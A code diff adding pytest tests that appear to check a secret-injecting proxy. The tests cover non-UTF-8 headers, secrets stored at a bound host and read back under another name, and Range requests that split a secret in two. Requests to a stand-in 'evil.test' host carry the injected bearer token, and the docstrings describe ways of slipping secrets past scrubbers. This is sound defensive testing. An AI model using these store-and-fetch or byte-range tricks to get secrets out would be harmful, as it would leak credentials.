@@ -294,3 +294,61 @@ def test_a_placeholder_in_http2_request_trailers_never_reaches_an_unbound_host(e
         assert ph not in repr(seen)
     if sized:
         assert status == 403 and evil.seen[before:] == []
+
+
+@pytest.mark.parametrize("with_placeholder", [True, False])
+def test_a_header_that_is_not_utf8_survives_injection(env, with_placeholder):
+    """Header bytes that are not UTF-8 (latin-1 filenames, say) in a request to a bound host: forwarded as they
+    were, with or without a placeholder elsewhere in the request."""
+    sg, evil = env
+    EVIL_PORT[0] = evil.port
+    sess = sg.session(allow=["evil.test"], secrets=["evil"])
+    auth = f"Authorization: Bearer {sess['env']['EVIL']}\r\n" if with_placeholder else ""
+    with tunnel(sg, sess, "http/1.1") as tls:
+        tls.sendall(f"GET /plain HTTP/1.1\r\nHost: evil.test:{evil.port}\r\n{auth}".encode() +
+                    b"X-Name: caf\xe9\r\nConnection: close\r\n\r\n")
+        data, _ = read_until_closed(tls, 8)
+    assert data.startswith(b"HTTP/1.1 200"), data[:300]
+    assert evil.seen[-1][1]["x-name"] == b"caf\xe9".decode("latin-1")
+
+
+def test_a_value_stored_at_the_bound_host_and_read_back_through_another_host_is_scrubbed(env):
+    """The bound host keeps the value (a gist, a request log) and serves it from another name: every response a
+    session holding the secret gets is scrubbed, not only those of the bound host."""
+    sg, evil = env
+    EVIL_PORT[0] = evil.port
+    sess = sg.session(allow=["evil.test", "elsewhere.test"], secrets=["evil"])
+    with tunnel(sg, sess, "http/1.1") as tls:
+        tls.sendall(f"GET /store HTTP/1.1\r\nHost: evil.test:{evil.port}\r\n"
+                    f"Authorization: Bearer {sess['env']['EVIL']}\r\nConnection: close\r\n\r\n".encode())
+        read_until_closed(tls, 8)
+    assert evil.stored == REAL
+    other = open_tunnel(sg.proxy_port, sess["token"], f"elsewhere.test:{evil.port}")
+    with tls_in_tunnel(other, sess["ca_file"], "elsewhere.test", alpn=["http/1.1"]) as tls:
+        tls.sendall(f"GET /fetch HTTP/1.1\r\nHost: elsewhere.test:{evil.port}\r\nConnection: close\r\n\r\n".encode())
+        data, _ = read_until_closed(tls, 8)
+    assert evil.seen[-1][0] == "/fetch"
+    assert b"stored=" in data and not leaked(data), data
+
+
+def test_a_stored_value_read_back_in_byte_ranges_is_never_pieced_together(env):
+    """Two Range requests for two halves of a kept value: no half is the value, so no scrubber would see one. A
+    session holding secrets never gets a partial response: its Range headers are dropped."""
+    sg, evil = env
+    EVIL_PORT[0] = evil.port
+    sess = sg.session(allow=["evil.test"], secrets=["evil"])
+    got = b""
+    with tunnel(sg, sess, "http/1.1") as tls:
+        tls.sendall(f"GET /store HTTP/1.1\r\nHost: evil.test:{evil.port}\r\n"
+                    f"Authorization: Bearer {sess['env']['EVIL']}\r\nConnection: close\r\n\r\n".encode())
+        read_until_closed(tls, 8)
+    assert evil.stored == REAL
+    half = 7 + len(REAL) // 2
+    for first, last in ((7, half - 1), (half, 7 + len(REAL) - 1)):
+        with tunnel(sg, sess, "http/1.1") as tls:
+            tls.sendall(f"GET /fetch HTTP/1.1\r\nHost: evil.test:{evil.port}\r\nRange: bytes={first}-{last}\r\n"
+                        f"Connection: close\r\n\r\n".encode())
+            data, _ = read_until_closed(tls, 8)
+        assert not leaked(data)
+        got += data.partition(b"\r\n\r\n")[2]
+    assert REAL[: len(REAL) // 2].encode() not in got and REAL[len(REAL) // 2:].encode() not in got
